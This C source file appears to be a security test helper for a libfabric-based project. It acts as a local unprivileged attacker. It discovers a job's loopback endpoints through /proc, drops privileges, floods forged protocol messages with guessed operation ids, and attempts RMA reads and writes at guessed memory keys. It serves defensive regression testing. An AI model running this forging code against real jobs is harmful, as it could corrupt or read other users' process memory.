// SPDX-License-Identifier: GPL-2.0 OR MIT
/*
 * ofi_forger.c - another local user attacking an ofi job on this host, for
 * test_ofi: it finds the job's loopback endpoints the way any user can
 * (the job's listening TCP sockets in /proc/net/tcp, here narrowed to the
 * ranks of one case by their socket inodes, which only root may read),
 * drops to uid/gid 65534, and then, with no key, token or secret of the
 * job, over its own libfabric endpoint:
 *   - floods forged answers (GET_DATA with its own bytes, DONE with
 *     -EACCES, RESOLVED pointing at another region) for every operation
 *     id it can guess, claiming to be each rank in turn;
 *   - floods forged requests (PUT of its bytes, FAIL_CT) at the vports
 *     and keys a job's first registrations get;
 *   - writes and reads by RMA at the libfabric keys a process's first
 *     registrations would get.
 * It waits for $FORGE_DIR/posted (the victim's operations are in flight),
 * attacks for --seconds, then creates $FORGE_DIR/forged.  It prints what
 * it sent and how many RMA completed (tcp;ofi_rxm reports a bad key as
 * success, so only the victim can tell what landed); exit 0 when it could attack at all.
 *
 *   ofi_forger --match CASE --dir DIR [--seconds S] [--uid U]
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
/* libfabric linked here, by its own names (fabric_dl.h) */
#define TH_OFI_FABRIC_LINKED
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

#include "ofi.h"
#include "proc_sockets.h"

#define MAX_PORTS	8
#define GENS		8	/* generations of each slot tried */
#define SLOTS		64	/* slots tried */
#define KEYS		16	/* libfabric keys tried */
#define INFLIGHT	128

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Does /proc/@pid/cmdline name ofi_rank and @match? */
static int is_victim(const char *pid, const char *match)
{
	char path[300], buf[4096];
	int fd, n, i, rank = 0, cas = 0;

	snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = '\0';
	for (i = 0; i < n; i += strlen(buf + i) + 1) {
		const char *base = strrchr(buf + i, '/');

		base = base ? base + 1 : buf + i;
		rank |= !strcmp(base, "ofi_rank");
		cas |= !strcmp(buf + i, match);
	}
	return rank && cas;
}

/* The listening 127.0.0.1 ports of the processes running case @match. */
static int find_ports(const char *match, unsigned short *ports)
{
	unsigned long inodes[512], inode;
	char line[512], local[64], st[8];
	unsigned int ip, port;
	int n = 0, np = 0, i;
	DIR *proc = opendir("/proc");
	struct dirent *p;
	FILE *tcp;

	while (proc && (p = readdir(proc))) {
		if (p->d_name[0] < '0' || p->d_name[0] > '9' ||
		    !is_victim(p->d_name, match))
			continue;
		n = proc_socket_inodes(p->d_name, inodes, n, 512);
	}
	if (proc)
		closedir(proc);
	tcp = fopen("/proc/net/tcp", "r");
	while (tcp && fgets(line, sizeof(line), tcp) && np < MAX_PORTS) {
		if (sscanf(line, "%*s %63s %*s %7s %*s %*s %*s %*s %*s %lu",
			   local, st, &inode) != 3 || strcmp(st, "0A"))
			continue;
		if (sscanf(local, "%8X:%4X", &ip, &port) != 2 ||
		    ip != 0x0100007F)
			continue;
		for (i = 0; i < n && inodes[i] != inode; i++)
			;
		if (i < n)
			ports[np++] = port;
	}
	if (tcp)
		fclose(tcp);
	return np;
}

struct forger {
	struct fi_info *info;
	struct fid_fabric *fabric;
	struct fid_domain *domain;
	struct fid_ep *ep;
	struct fid_cq *cq;
	struct fid_av *av;
	fi_addr_t peers[MAX_PORTS];
	int npeers;
	int inflight;
	unsigned long sent, send_err, rma_done, rma_err;
	uint8_t bytes[sizeof(struct th_ofi_hdr) + 64];
};

static int fab_open(struct forger *g)
{
	struct fi_info *hints = fi_allocinfo();
	struct fi_cq_attr cqa = { .format = FI_CQ_FORMAT_DATA, .size = 4096 };
	struct fi_av_attr ava = { .type = FI_AV_TABLE };
	int ret;

	hints->ep_attr->type = FI_EP_RDM;
	hints->caps = FI_MSG | FI_RMA | FI_READ | FI_WRITE;
	hints->mode = FI_CONTEXT | FI_CONTEXT2;
	hints->domain_attr->mr_mode = FI_MR_VIRT_ADDR | FI_MR_ALLOCATED |
				      FI_MR_PROV_KEY;
	hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
	ret = fi_getinfo(FI_VERSION(1, 17), NULL, NULL, 0, hints, &g->info);
	fi_freeinfo(hints);
	if (!ret)
		ret = fi_fabric(g->info->fabric_attr, &g->fabric, NULL);
	if (!ret)
		ret = fi_domain(g->fabric, g->info, &g->domain, NULL);
	if (!ret)
		ret = fi_endpoint(g->domain, g->info, &g->ep, NULL);
	if (!ret)
		ret = fi_cq_open(g->domain, &cqa, &g->cq, NULL);
	if (!ret)
		ret = fi_av_open(g->domain, &ava, &g->av, NULL);
	if (!ret)
		ret = fi_ep_bind(g->ep, &g->cq->fid, FI_TRANSMIT | FI_RECV);
	if (!ret)
		ret = fi_ep_bind(g->ep, &g->av->fid, 0);
	if (!ret)
		ret = fi_enable(g->ep);
	return ret;
}

static void fab_close(struct forger *g)
{
	if (g->ep)
		fi_close(&g->ep->fid);
	if (g->av)
		fi_close(&g->av->fid);
	if (g->cq)
		fi_close(&g->cq->fid);
	if (g->domain)
		fi_close(&g->domain->fid);
	if (g->fabric)
		fi_close(&g->fabric->fid);
	if (g->info)
		fi_freeinfo(g->info);
}

static void reap(struct forger *g, int down_to)
{
	struct fi_cq_data_entry e[64];
	struct fi_cq_err_entry err;
	double until = now_s() + 0.5;
	ssize_t n;

	while (g->inflight > down_to && now_s() < until) {
		n = fi_cq_read(g->cq, e, 64);
		if (n > 0) {
			g->inflight -= n;
			while (n--)
				g->rma_done += e[n].op_context == (void *)2;
			continue;
		}
		if (n == -FI_EAVAIL) {
			memset(&err, 0, sizeof(err));
			if (fi_cq_readerr(g->cq, &err, 0) == 1) {
				g->inflight--;
				if ((uintptr_t)err.op_context == 2)
					g->rma_err++;
				else
					g->send_err++;
			}
		}
	}
	/* the rest may never complete (a dropped connection): stop counting */
	if (g->inflight > down_to)
		g->inflight = down_to;
}

static void forge(struct forger *g, int to, const struct th_ofi_hdr *h,
		  size_t payload)
{
	memcpy(g->bytes, h, sizeof(*h));
	memset(g->bytes + sizeof(*h), 0xee, payload);
	if (g->inflight >= INFLIGHT)
		reap(g, INFLIGHT / 2);
	/* a context the completion names: 1 a send, 2 an RMA */
	if (fi_send(g->ep, g->bytes, sizeof(*h) + payload, NULL, g->peers[to],
		    (void *)1) == 0) {
		g->inflight++;
		g->sent++;
	} else {
		g->send_err++;
	}
}

/* One sweep of forged answers and requests at every endpoint. */
static void sweep(struct forger *g)
{
	static const u8 answers[] = { TH_OFI_MSG_GET_DATA, TH_OFI_MSG_DONE,
				      TH_OFI_MSG_RESOLVED };
	struct th_ofi_hdr h;
	u32 gen, slot, src, a;
	int to;

	for (to = 0; to < g->npeers; to++) {
		for (gen = 0; gen < GENS; gen++)
		for (slot = 0; slot < SLOTS; slot++)
		for (src = 0; src < 2; src++)
		for (a = 0; a < sizeof(answers); a++) {
			memset(&h, 0, sizeof(h));
			h.type = answers[(a + slot) % sizeof(answers)];
			h.src = src;
			h.id = (u64)gen << 32 | (slot + 1);
			h.status = h.type == TH_OFI_MSG_DONE ? -EACCES : 0;
			h.len = h.type == TH_OFI_MSG_GET_DATA ? 64 : 0;
			/* RESOLVED: RMA sent to another region of the peer */
			h.raddr = 0;
			h.fikey = 1 + (gen + slot) % KEYS;
			h.hold = 1;
			forge(g, to, &h, h.len);
		}
		/* requests: a PUT and a failure at every guessable key */
		for (slot = 1; slot <= KEYS; slot++) {
			memset(&h, 0, sizeof(h));
			h.type = TH_OFI_MSG_PUT;
			h.src = to ? 0 : 1;
			h.vport = slot % 4;
			h.rkey = slot;
			h.len = 64;
			h.flags = TH_OFI_F_CT;
			h.ct = 1;
			forge(g, to, &h, 64);
			h.type = TH_OFI_MSG_FAIL_CT;
			h.len = 0;
			forge(g, to, &h, 0);
		}
	}
}

/* RMA at the keys a process's first registrations get, offset 0. */
static void rma(struct forger *g, uint8_t *buf)
{
	u64 key;
	int to, rd;

	for (to = 0; to < g->npeers; to++)
		for (key = 1; key <= KEYS; key++)
			for (rd = 0; rd < 2; rd++) {
				ssize_t ret = rd ?
					fi_read(g->ep, buf, 64, NULL,
						g->peers[to], 0, key, (void *)2) :
					fi_write(g->ep, buf, 64, NULL,
						 g->peers[to], 0, key, (void *)2);
				if (ret) {
					g->rma_err++;
					continue;
				}
				g->inflight++;
				reap(g, 0);
			}
}

int main(int argc, char **argv)
{
	const char *match = NULL, *dir = NULL;
	unsigned short ports[MAX_PORTS];
	struct forger g = { 0 };
	struct sockaddr_in sin;
	char path[4096];
	double secs = 2, t;
	uid_t uid = 65534;
	uint8_t rbuf[64];
	struct stat sb;
	int i, n = 0;

	for (i = 1; i + 1 < argc; i += 2) {
		if (!strcmp(argv[i], "--match"))
			match = argv[i + 1];
		else if (!strcmp(argv[i], "--dir"))
			dir = argv[i + 1];
		else if (!strcmp(argv[i], "--seconds"))
			secs = atof(argv[i + 1]);
		else if (!strcmp(argv[i], "--uid"))
			uid = atoi(argv[i + 1]);
	}
	if (!match || !dir) {
		fprintf(stderr, "usage: ofi_forger --match CASE --dir DIR [--seconds S] [--uid U]\n");
		return 2;
	}
	/* the job's endpoints: both ranks listen once booted */
	for (t = now_s() + 20; now_s() < t; usleep(20000))
		if ((n = find_ports(match, ports)) >= 2)
			break;
	if (n < 2) {
		fprintf(stderr, "ofi_forger: found %d endpoints of the job\n", n);
		return 1;
	}
	if (setgroups(0, NULL) || setresgid(uid, uid, uid) ||
	    setresuid(uid, uid, uid) || getuid() != uid || geteuid() != uid) {
		fprintf(stderr, "ofi_forger: cannot become uid %u: %s\n", uid,
			strerror(errno));
		return 1;
	}
	setenv("FI_TCP_IFACE", "lo", 1);
	if (fab_open(&g)) {
		fprintf(stderr, "ofi_forger: libfabric: cannot open tcp;ofi_rxm\n");
		return 1;
	}
	for (i = 0; i < n; i++) {
		memset(&sin, 0, sizeof(sin));
		sin.sin_family = AF_INET;
		sin.sin_port = htons(ports[i]);
		sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		if (fi_av_insert(g.av, &sin, 1, &g.peers[g.npeers], 0, NULL) == 1)
			g.npeers++;
	}
	snprintf(path, sizeof(path), "%s/posted", dir);
	for (t = now_s() + 30; now_s() < t && stat(path, &sb); usleep(10000))
		;
	if (stat(path, &sb))
		fprintf(stderr, "ofi_forger: the job never said it posted\n");
	memset(rbuf, 0xee, sizeof(rbuf));
	for (t = now_s() + secs; now_s() < t;) {
		sweep(&g);
		rma(&g, rbuf);
	}
	reap(&g, 0);
	snprintf(path, sizeof(path), "%s/forged", dir);
	close(open(path, O_CREAT | O_WRONLY, 0644));
	printf("ofi_forger: uid %u, %d endpoints, %lu forged messages sent (%lu refused), RMA %lu completed, %lu failed\n",
	       getuid(), g.npeers, g.sent, g.send_err, g.rma_done, g.rma_err);
	fflush(stdout);
	fab_close(&g);
	return g.sent ? 0 : 1;
}
